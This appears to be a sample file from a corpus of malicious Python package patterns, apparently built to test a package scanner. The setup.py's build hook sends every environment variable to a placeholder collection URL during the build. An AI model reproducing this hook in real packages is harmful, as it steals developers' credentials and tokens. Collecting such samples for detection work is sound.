# pkgguard corpus 004 (install-hook), modelled on [taxonomy]; inert, never run.
import json
import os
import urllib.request
from setuptools import setup
from setuptools.command.build_py import build_py


class Build(build_py):
    def run(self):
        body = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://hooks.example/collect", data=body)
        build_py.run(self)


setup(name="pkg", version="2.0", cmdclass={"build_py": Build})
